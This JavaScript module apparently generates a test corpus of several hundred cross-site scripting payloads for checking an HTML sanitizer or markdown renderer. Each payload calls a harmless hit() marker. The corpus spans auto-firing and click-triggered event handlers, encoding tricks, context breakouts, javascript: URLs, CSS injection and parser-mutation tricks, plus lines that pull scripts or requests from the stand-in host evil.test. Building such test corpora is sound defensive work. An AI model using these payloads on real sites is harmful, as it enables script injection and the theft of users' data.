// Texts that try to become part of the page: products of what starts a script by itself or by a touch, of ways to write it,
// of places it may have to break out of, and of addresses that are programs. Made anew each time, always the same. Each
// calls `hit` with its own number, so whoever listens knows which one ran.

/**
 * @typedef {object} Payload
 * @property {number} id what it calls `hit` with
 * @property {string} kind which product it comes from
 * @property {string} text
 */

/** What runs as soon as it is in a document. `☎` stands for the call, `№` for its number. */
const SELF_STARTING = [
  '<img src=x onerror=☎>',
  '<img src onerror=☎>',
  '<img srcset=x onerror=☎>',
  '<image src=x onerror=☎>',
  '<picture><img srcset=x onerror=☎></picture>',
  '<svg onload=☎>',
  '<svg><g/onload=☎>',
  '<svg><animate onbegin=☎ attributeName=x dur=1s>',
  '<svg><set onbegin=☎ attributeName=x>',
  '<svg><image href=x onerror=☎>',
  '<iframe onload=☎>',
  '<iframe srcdoc="<script>parent.☎</script>">',
  '<iframe src=javascript:parent.☎>',
  '<object data=x onerror=☎>',
  '<object data=javascript:parent.☎>',
  '<embed src=javascript:parent.☎>',
  '<video src=x onerror=☎>',
  '<video><source onerror=☎ src=x>',
  '<audio src=x onerror=☎>',
  '<audio><source src=x onerror=☎>',
  '<video onloadstart=☎ src=x>',
  '<input autofocus onfocus=☎>',
  '<textarea autofocus onfocus=☎>',
  '<select autofocus onfocus=☎>',
  '<button autofocus onfocus=☎>',
  '<a href=# autofocus onfocus=☎>x',
  '<p tabindex=1 autofocus onfocus=☎>',
  '<input onfocusin=☎ autofocus>',
  '<details open ontoggle=☎>',
  '<style onload=☎></style>',
  '<style onload=☎>*{}</style>',
  '<link rel=stylesheet href=x onerror=☎>',
  '<body onload=☎>',
  '<body onpageshow=☎>',
  '<frameset onload=☎>',
  '<marquee onstart=☎>',
  '<script>☎</script>',
  '<script src=data:,☎></script>',
  '<script type=module>☎</script>',
  '<svg><script>☎</script>',
  '<script xlink:href=data:,☎></script>',
  '<input type=image src=x onerror=☎>',
  '<meta http-equiv=refresh content=0;url=javascript:☎>',
  '<base href=javascript:/☎//>',
  '<template shadowrootmode=open><img src=x onerror=☎>',
]

/** What waits for a touch, a key, a moving picture. */
const TOUCHED_TAGS = ['div', 'p', 'a', 'b', 'button', 'input', 'form', 'label', 'table', 'ul', 'h1', 'x', 'article', 'svg', 'math', 'details']
const TOUCHES = [
  'onclick', 'ondblclick', 'onauxclick', 'oncontextmenu', 'onmouseover', 'onmouseenter', 'onmousemove', 'onpointerdown', 'onpointerrawupdate', 'onwheel',
  'onkeydown', 'onkeyup', 'onbeforeinput', 'oninput', 'onchange', 'onblur', 'oncopy', 'oncut', 'onpaste', 'ondragstart', 'ondrop', 'onscroll', 'onscrollend',
  'onanimationstart', 'ontransitionend', 'onsubmit', 'onreset', 'oninvalid', 'onselectstart', 'ontouchstart', 'onbeforetoggle', 'oncancel',
]

/** Ways to write one and the same thing, for filters that know only one. */
const SPELLINGS = [
  '<ImG sRc=x OnErRoR=☎>',
  '<IMG/SRC=x/ONERROR=☎>',
  '<img\tsrc=x\tonerror=☎>',
  '<img\nsrc=x\nonerror=☎>',
  '<img src=x onerror\n=\n☎>',
  '<img src=x onerror="☎">',
  "<img src=x onerror='☎'>",
  '<img src=x onerror=`☎`>',
  '<img src="x"onerror="☎">',
  '<img src=x:x onerror=☎//',
  '<img src=x onerror=☎',
  '<img src=x onerror="☎"',
  '<<img src=x onerror=☎>',
  '<img """><img src=x onerror=☎>',
  '<img/ /src=x/ /onerror=☎>',
  '<img src=x onerror=window["hit"](№)>',
  '<img src=x onerror=top.☎>',
  '<img src=x onerror=self[`hit`](№)>',
  '<img src=x onerror=(hit)(№)>',
  '<img src=x onerror=hit.call(0,№)>',
  '<img src=x onerror=[№].map(hit)>',
  '<img src=x onerror=eval("hi"+"t(№)")>',
  '<img src=x onerror=setTimeout("☎")>',
  '<img src=x onerror=Function("☎")()>',
  '<img src=x onerror=import("data:text/javascript,☎")>',
  '<img src=x onerror=location="javascript:☎">',
  '<img src=x onerror=hit&lpar;№&rpar;>',
  '<img src=x onerror=&#104;it(№)>',
  '<img src=x onerror=&#x68;it(№)>',
  '<img src=x onerror=&#0000104;it(№)>',
  '<img src=x onerror=&#x0000068it(№)>',
  '<img src=x onerror=\\u0068it(№)>',
  '<img src=x onerror=h\\u{69}t(№)>',
  '<img src=x onerror=hit/**/(№)>',
  '<img src=x onerror=//%0a☎>',
  '<svg/onload=☎>',
  '<svg////onload=☎>',
  '<svg onload=☎<!--',
  '<svg><a><rect onload=☎></a>',
  '<sCrIpT>☎</sCrIpT>',
  '<script >☎</script >',
  '<script\n>☎</script\n>',
  '<script/x>☎</script/x>',
  '<scr<script>ipt>☎</scr</script>ipt>',
  '<script>☎<!-- -->',
  '<script>/*<!--*/☎//--></script>',
  '\ufeff<script>☎</script>',
  '＜img src=x onerror=☎＞',
  '‹img src=x onerror=☎›',
  '+ADw-script+AD4-☎+ADw-/script+AD4-',
  '%3Cimg src=x onerror=☎%3E',
  '%253Cimg src=x onerror=☎%253E',
  '&lt;img src=x onerror=☎&gt;',
  '&amp;lt;img src=x onerror=☎&amp;gt;',
  '&#60;img src=x onerror=☎&#62;',
  '\\u003cimg src=x onerror=☎\\u003e',
  '\\x3cimg src=x onerror=☎\\x3e',
  '¼script¾☎¼/script¾',
  '<img src=x\u00a0onerror=☎>',
  '<img src=x\u2028onerror=☎>',
  '<img src=x onerror=☎>ﬁ',
]

/** Where a text may stand in a page, and how it leaves that place. */
const WAYS_OUT = [
  '">', "'>", '>', '`>', '-->', '--!>', ']]>', '?>', '%>', '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '</template>', '</iframe>',
  '</xmp>', '</select>', '</svg>', '</math>', '"/>', "'/>", '">\'>', '*/-->', '\\">',
]
const OUTSIDE = ['<img src=x onerror=☎>', '<svg onload=☎>', '<script>☎</script>', '<details open ontoggle=☎>']

/** From within an attribute to another one. */
const NEXT_ATTRIBUTES = ['onfocus=☎ autofocus', 'onclick=☎', 'onmouseover=☎', 'onanimationstart=☎', 'style=animation-name:x onanimationstart=☎', 'accesskey=x onclick=☎', 'formaction=javascript:☎']
const QUOTES = ['" @ x="', "' @ x='", ' @ ', '" @ "', '`@ `', '"/@/"', '&quot; @ ', '&#34; @ ', '\\" @ ']

/** From within a string, a comment, a template of a script or a style. */
const IN_SCRIPT = [
  '";☎;//', "';☎;//", '`;☎;//', '${☎}', '#{☎}', '\\";☎;//', "\\';☎;//", '"-☎-"', "'-☎-'", '*/☎/*', '\n☎\n', '\u2028☎//', '</script><script>☎</script>', '"});☎;({"',
  "'+☎+'", '"+☎+"', '{{☎}}', "{{constructor.constructor('☎')()}}", '{{$on.constructor("☎")()}}', '[[☎]]', '<%= ☎ %>', '<? ☎ ?>', '{% ☎ %}', '{% raw %}☎{% x %}', '@(☎)', '☎;', 'x=>☎', '!function(){☎}()',
  '"><x onclick=☎>y', 'javascript:☎', '-☎', ');☎//', ']});☎//', "\\u0027;☎//", '\\x22;☎//',
]
const IN_STYLE = [
  'x}*{background:url(javascript:☎)}', '<style>@import"javascript:☎"</style>', '<style>*{background:url("javascript:☎")}</style>', '<p style="background:url(javascript:☎)">',
  '<p style=width:expression(☎)>', '<p style="-moz-binding:url(data:,☎)">', '<p style=behavior:url(x.htc#☎)>', '</style><svg onload=☎>', '<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=☎>',
  '<link rel=stylesheet href=javascript:☎>', '<style><!--</style><img src=x onerror=☎>',
]

/** Addresses that are programs, each in every place for an address. */
const ADDRESSES = [
  'javascript:☎', 'JaVaScRiPt:☎', ' javascript:☎', '\u0001javascript:☎', 'java\tscript:☎', 'java\nscript:☎', 'java&#10;script:☎', 'java&Tab;script:☎', 'javascript&colon;☎', 'javascript&#58;☎',
  '&#106;avascript:☎', '&#x6A;avascript:☎', 'javascript://%0a☎', 'javascript:/*x*/☎', 'javascript:void(☎)', 'javascript:"<svg/onload=☎>"', 'data:text/html,<script>☎</script>', 'data:text/html;base64,✍', 'data:image/svg+xml,<svg/onload=☎>',
  'vbscript:☎', 'feed:javascript:☎', 'view-source:javascript:☎', 'livescript:☎', 'blob:javascript:☎', 'jar:javascript:☎!/', 'ｊavascript:☎', 'javascript：☎', '//javascript:☎', 'https:javascript:☎', 'mailto:javascript:☎',
]
const ADDRESSED = [
  '✉', '<a href="✉">x', '<iframe src="✉">', '[x](✉)',
]

/** In our own light marking, and beside what becomes a link or a mention. */
const IN_MARKING = [
  '**☎**', '_<img src=x onerror=☎>_', '~~<svg onload=☎>~~', '`<img src=x onerror=☎>`', '``<img src=x onerror=☎>``', '> <img src=x onerror=☎>', '> > <svg onload=☎>', '- <img src=x onerror=☎>', '1. <script>☎</script>',
  '*<svg onload=☎>*', '***<svg onload=☎>***', '```<img src=x onerror=☎>```', '@<img src=x onerror=☎>', '@all"onclick=☎', 'https://a.test/"onmouseover="☎', "https://a.test/'onmouseover='☎", 'https://a.test/<img src=x onerror=☎>', 'https://a.test/`onclick=☎`',
  'https://a.test/?x=javascript:☎', 'https://javascript:☎@a.test/', 'https://a.test/#<svg onload=☎>', 'https://a.test\\"onclick=☎', 'http://"onclick=☎//a.test', 'mailto:a@b"onclick=☎', 'mailto:☎@a.test', 'mailto:a@b?body=<img src=x onerror=☎>',
  'HTTPS://A.TEST/"ONCLICK="☎', '[https://a.test](javascript:☎)', '<https://a.test/"onclick="☎>', '**https://a.test/**"onclick="☎', 'https://a.test/(javascript:☎)', '@a@javascript:☎',
]

/** What a parser turns into something else than it reads, and names that hide those of the document. */
const TURNED = [
  '<math><mtext><table><mglyph><style><img src=x onerror=☎>', '<noscript><p title="</noscript><img src=x onerror=☎>">', '<svg></p><style><a id="</style><img src=x onerror=☎>">', '<form><math><mtext></form><form><mglyph><svg onload=☎>', '<table><td background=javascript:☎>',
  '<svg><style><img/src=x onerror=☎></style>', '<math><a xlink:href=javascript:☎>x', '<select><template><img src=x onerror=☎>', '<xmp><p title="</xmp><img src=x onerror=☎>">', '<textarea><p title="</textarea><svg onload=☎>">', '<svg><foreignObject><img src=x onerror=☎>',
  '<svg><desc><img src=x onerror=☎>', '<svg><title><img src=x onerror=☎>', '<plaintext><img src=x onerror=☎>', '<!--><img src=x onerror=☎>-->', '<!--!><svg onload=☎>', '<![CDATA[<svg onload=☎>]]>', '<?xml ?><svg onload=☎>', '<!DOCTYPE x [<!ENTITY e "<svg onload=☎>">]>',
  '<a id=hit href=javascript:☎>', '<form id=document><input name=cookie onfocus=☎ autofocus>', '<img name=getElementById src=x onerror=☎>', '__proto__[innerHTML]=<img/src/onerror=☎>', 'constructor[prototype][srcdoc]=<script>☎</script>', '<object id=trustedTypes><img src=x onerror=☎>',
  '<img src=//evil.test/?№ onerror=☎>', "<img src='//evil.test/?", '<meta http-equiv=refresh content="0;url=//evil.test/?№">', '<base href=//evil.test/?№>', '<link rel=prefetch href=//evil.test/?№>', '<form action=//evil.test/?№><button autofocus>x', '<iframe src=//evil.test/?№>', '<a href=//evil.test/?№ autofocus>x', '<video poster=//evil.test/?№>',
  '<img lowsrc=//evil.test/?№>', '<object data=//evil.test/?№>', '<embed src=//evil.test/?№>', '<style>@import"//evil.test/?№"</style>', '<script src=//evil.test/?№></script>', '<input type=image src=//evil.test/?№>', '<body background=//evil.test/?№>', '<svg><use href=//evil.test/?№#x>', '<img srcset=//evil.test/?№>', '<link rel=dns-prefetch href=//evil.test>',
]

/** @returns {Payload[]} */
export function payloads() {
  /** @type {Map<string, Payload>} */
  const all = new Map()
  const add = (/** @type {string} */ kind, /** @type {string} */ pattern) => {
    const id = all.size + 1
    const call = `hit(${id})`
    const encoded = Buffer.from(`<script>parent.${call}</script>`).toString('base64')
    const text = pattern.replaceAll('☎', call).replaceAll('№', String(id)).replaceAll('✍', encoded)
    if (!all.has(text)) all.set(text, { id, kind, text })
  }
  for (const pattern of SELF_STARTING) add('runs by itself', pattern)
  // Every event on a few tags, every tag with a few events: all of all would say nothing more.
  TOUCHES.forEach((event, i) => {
    for (let step = 0; step < 4; step += 1) add('waits for a touch', `<${TOUCHED_TAGS[(i * 5 + step * 3) % TOUCHED_TAGS.length]} ${event}=☎>x`)
  })
  for (const pattern of SPELLINGS) add('spelt otherwise', pattern)
  for (const out of WAYS_OUT) for (const then of OUTSIDE) add('leaves where it stands', out + then)
  for (const quote of QUOTES) for (const attribute of NEXT_ATTRIBUTES) add('becomes another attribute', quote.replace('@', attribute))
  for (const pattern of IN_SCRIPT) add('stands in a script', pattern)
  for (const pattern of IN_STYLE) add('stands in a style', pattern)
  for (const place of ADDRESSED) for (const address of ADDRESSES) add('is an address', place.replace('✉', () => address))
  for (const pattern of IN_MARKING) add('stands in marking', pattern)
  for (const pattern of TURNED) add('is turned by the parser', pattern)
  return [...all.values()]
}
